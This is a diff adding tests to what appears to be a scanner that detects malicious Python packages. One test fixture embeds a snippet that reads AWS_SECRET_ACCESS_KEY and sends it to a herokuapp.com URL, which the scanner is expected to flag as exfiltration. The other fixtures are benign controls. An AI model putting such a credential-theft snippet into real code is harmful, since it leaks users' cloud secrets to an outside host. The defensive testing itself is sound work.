@@ -264,3 +264,27 @@ def test_chat_bot_handler_with_fixed_commands_stays_clean() -> None:
             '        out = subprocess.run(["uptime"], capture_output=True, text=True)\n'
             '        bot.reply_to(message, out.stdout)\n\n    bot.polling()\n')
     assert verdict(_wheel("tgtools", {"tgtools/__init__.py": code}))[0] == "clean"
+
+
+def test_secret_kept_on_self_and_sent_to_free_app_hosting_is_flagged() -> None:
+    code = ('import os, requests\n\nclass Ctx:\n    def __init__(self):\n'
+            '        self.key = os.environ.get("AWS_SECRET_ACCESS_KEY")\n\n    def sync(self):\n'
+            '        requests.get("https://some-app.herokuapp.com/k/" + self.key)\n')
+    facts = facts_of(_wheel("ctxlib", {"ctxlib/__init__.py": code}))
+    assert any(s.kind == "flow.exfiltration" for s in facts.signals)
+    v, strong = verdict(_wheel("ctxlib", {"ctxlib/__init__.py": code}))
+    assert v != "clean" and "package.call-only-payload:high" in strong
+
+
+def test_token_kept_on_self_and_sent_to_its_api_stays_clean() -> None:
+    code = ('import os, requests\n\nclass Client:\n    def __init__(self):\n'
+            '        self.token = os.environ.get("ACME_API_TOKEN")\n\n    def me(self):\n'
+            '        auth = {"Authorization": self.token}\n'
+            '        return requests.get("https://api.acme.example/me", headers=auth).json()\n')
+    assert verdict(_wheel("acmeclient", {"acmeclient/__init__.py": code}))[0] == "clean"
+
+
+def test_app_hosting_link_in_setup_metadata_stays_clean() -> None:
+    setup = ("from setuptools import setup\n"
+             "setup(name='demoapp', version='1.0', url='https://demoapp.herokuapp.com')\n")
+    assert verdict(sdist("demoapp", "1.0", {"setup.py": setup, "demoapp/__init__.py": ""}))[0] == "clean"
